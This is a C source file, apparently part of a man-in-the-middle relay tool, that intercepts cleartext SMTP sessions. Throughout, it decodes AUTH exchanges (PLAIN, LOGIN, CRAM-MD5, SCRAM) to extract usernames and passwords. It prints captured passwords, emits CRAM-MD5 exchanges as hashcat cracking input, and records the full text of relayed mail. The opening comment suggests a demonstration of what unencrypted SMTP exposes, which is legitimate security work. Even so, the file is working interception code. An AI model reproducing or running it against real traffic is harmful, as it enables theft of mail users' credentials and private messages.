/* What SMTP in the clear gives away to who relays it: logins and mail. */
#include <strings.h>

#include "mitm_relay.h"
#include "original.h"
#include "rfc5322.h"

void mitm_smtp_heard_free(struct mitm_smtp_heard *h)
{
	buf_free(&h->challenge);
	buf_free(&h->answer);
	buf_free(&h->mail);
	wipe(h, sizeof *h);
}

/* --- lines --- */

/* A line without its end, behind so many bytes. */
static struct cursor line_behind(const struct mitm_message *m, size_t skip)
{
	size_t n = m->bytes.n;

	while (n > 0 && (m->bytes.p[n - 1] == '\r' || m->bytes.p[n - 1] == '\n')) {
		n--;
	}
	skip = skip < n ? skip : n;
	return cursor_over(m->bytes.p + skip, n - skip);
}

static void copy_text(char *out, size_t cap, const void *p, size_t n)
{
	(void)snprintf(out, cap, "%.*s", (int)n, (const char *)p);
}

/* A name is printed, and said to the server again. */
static void copy_name(struct mitm_smtp_heard *h, const void *p, size_t n)
{
	(void)escape_text(h->user, sizeof h->user, p, n, false);
}

/* --- logins --- */

static void keep(struct buf *to, const void *p, size_t n)
{
	to->n = 0;
	(void)buf_append(to, p, n);
}

static bool logs_in_by(const struct mitm_smtp_heard *h, const char *mechanism)
{
	return strcasecmp(h->mechanism, mechanism) == 0;
}

/* [authzid] NUL name NUL password */
static void take_plain(struct mitm_smtp_heard *h, const uint8_t *p, size_t n)
{
	const uint8_t *first = memchr(p, '\0', n);
	size_t behind = first == NULL ? 0 : n - (size_t)(first + 1 - p);
	const uint8_t *second = first == NULL ? NULL : memchr(first + 1, '\0', behind);

	if (second != NULL) {
		copy_name(h, first + 1, (size_t)(second - first - 1));
		copy_text(
			h->password, sizeof h->password, second + 1, n - (size_t)(second + 1 - p));
	}
}

/* "n,,n=NAME,r=NONCE" */
static void take_scram(struct mitm_smtp_heard *h, const uint8_t *p, size_t n)
{
	const char *name = n > 3 ? memmem(p, n, ",n=", 3) : NULL;
	size_t left = name == NULL ? 0 : n - (size_t)(name + 3 - (const char *)p);
	const char *end = name == NULL ? NULL : memchr(name + 3, ',', left);

	if (end != NULL) {
		copy_name(h, name + 3, (size_t)(end - name - 3));
	}
}

static void take_answer(struct mitm_smtp_heard *h, struct cursor line)
{
	uint8_t plain[SMTP_COMMAND_MAX];
	int k = smtp_decode64(plain, sizeof plain, line.p, line.n);
	size_t n = k < 0 ? 0 : (size_t)k;
	const uint8_t *blank = memrchr(plain, ' ', n);

	keep(&h->answer, line.p, k < 0 ? 0 : line.n);
	h->answers++;
	if (logs_in_by(h, "PLAIN")) {
		take_plain(h, plain, n);
	} else if (logs_in_by(h, "LOGIN") && h->answers == 1) {
		copy_name(h, plain, n);
	} else if (logs_in_by(h, "LOGIN")) {
		copy_text(h->password, sizeof h->password, plain, n);
	} else if (logs_in_by(h, "CRAM-MD5") && blank != NULL) {
		copy_name(h, plain, (size_t)(blank - plain));
	} else if (logs_in_by(h, "SCRAM-SHA-256") && h->answers == 1) {
		take_scram(h, plain, n);
	}
	wipe(plain, sizeof plain);
}

static void begin_login(struct mitm_smtp_heard *h, const struct mitm_message *m)
{
	struct cursor c = line_behind(m, strlen("AUTH "));
	const uint8_t *blank = memchr(c.p, ' ', c.n);
	size_t n = blank == NULL ? c.n : (size_t)(blank - c.p);

	copy_text(h->mechanism, sizeof h->mechanism, c.p, n);
	h->answers = 0;
	h->challenge.n = h->answer.n = 0;
	h->user[0] = h->password[0] = '\0';
	if (blank != NULL) {
		(void)get_bytes(&c, n + 1);
		take_answer(h, c);
	}
}

static void take_challenge(struct mitm_smtp_heard *h, const struct mitm_message *m)
{
	struct cursor c = line_behind(m, 4);
	uint8_t plain[SMTP_COMMAND_MAX];

	/* what is no base64 would be printed as it came */
	if (smtp_decode64(plain, sizeof plain, c.p, c.n) >= 0) {
		keep(&h->challenge, c.p, c.n);
	}
}

/* What a login is worth to who heard it. */
static void tell_login(struct relay *r)
{
	const struct mitm_smtp_heard *h = &r->mine->smtp;
	char password[4 * sizeof h->password];

	(void)escape_text(password, sizeof password, h->password, strlen(h->password), false);
	if (h->password[0] != '\0') {
		relay_result(r, true, "%s %s with the password \"%s\"", h->user,
			h->logged_in ? "logged in" : "was refused", password);
	} else if (!h->logged_in) {
		relay_did(r, "%s was not let log in", h->user);
	} else if (logs_in_by(h, "CRAM-MD5")) {
		relay_result(r, true,
			"%s logged in by CRAM-MD5; to guess at the password, hashcat -m 10200 "
			"takes: $cram_md5$%.*s$%.*s",
			h->user, (int)h->challenge.n, (const char *)h->challenge.p,
			(int)h->answer.n, (const char *)h->answer.p);
	} else {
		relay_did(r,
			"%s was let log in: a guess at the password is dear, the session is not",
			h->user);
	}
}

void mitm_smtp_login(struct relay *r, unsigned code)
{
	struct mitm_smtp_heard *h = &r->mine->smtp;

	if (h->mechanism[0] == '\0' || code == 334) {
		return;
	}
	h->logged_in = code == 235;
	tell_login(r);
	h->mechanism[0] = '\0';
	wipe(h->password, sizeof h->password);
}

/* --- mail --- */

static void take_path(struct smtp_path *out, const struct mitm_message *m)
{
	struct cursor c = line_behind(m, 0);
	const uint8_t *open = memchr(c.p, '<', c.n);
	size_t used;

	if (open == NULL || smtp_path(open, c.n - (size_t)(open - c.p), out, &used) != 0) {
		*out = (struct smtp_path){0};
	}
}

static void take_text(struct mitm_smtp_heard *h, const struct buf *lines)
{
	for (size_t at = 0; at < lines->n && h->mail.n < MITM_RECORDING;) {
		const uint8_t *lf = memchr(lines->p + at, '\n', lines->n - at);
		size_t end = lf == NULL ? lines->n : (size_t)(lf + 1 - lines->p);
		size_t dot = lines->p[at] == '.' ? 1 : 0; /* RFC 5321 4.5.2 */
		(void)buf_append(&h->mail, lines->p + at + dot, end - at - dot);
		at = end;
	}
}

static void tell_mail(struct relay *r)
{
	struct mitm_smtp_heard *h = &r->mine->smtp;
	char title[ORIGINAL_TITLE_MAX] = "";
	size_t head_n, body_at;
	struct err ignored;

	h->mails++;
	if (rfc5322_head(h->mail.p, h->mail.n, &head_n, &body_at) == 1) {
		(void)original_title(h->mail.p, head_n, title, &ignored);
	}
	relay_stole_from(r,
		h->logged_in               ? h->user
		: h->from.local[0] != '\0' ? h->from.local
					   : "nobody",
		title, &h->mail, "was read on its way");
	h->mail.n = 0;
}

void mitm_smtp_listen(struct relay *r, const struct mitm_message *m)
{
	struct mitm_smtp_heard *h = &r->mine->smtp;

	switch (m->kind) {
	case MITM_COMMAND:
		if (mitm_is_command(m, "AUTH")) {
			begin_login(h, m);
		} else if (mitm_is_command(m, "MAIL")) {
			take_path(&h->from, m);
			h->to = (struct smtp_path){0};
		} else if (mitm_is_command(m, "RCPT") && h->to.local[0] == '\0') {
			take_path(&h->to, m);
		}
		break;
	case MITM_AUTH:
		take_answer(h, line_behind(m, 0));
		break;
	case MITM_REPLY:
		if (r->smtp.code == 334) {
			take_challenge(h, m);
		}
		mitm_smtp_login(r, r->smtp.code);
		break;
	case MITM_TEXT:
		take_text(h, &m->bytes);
		break;
	case MITM_DOT:
		tell_mail(r);
		break;
	default:
		break;
	}
}
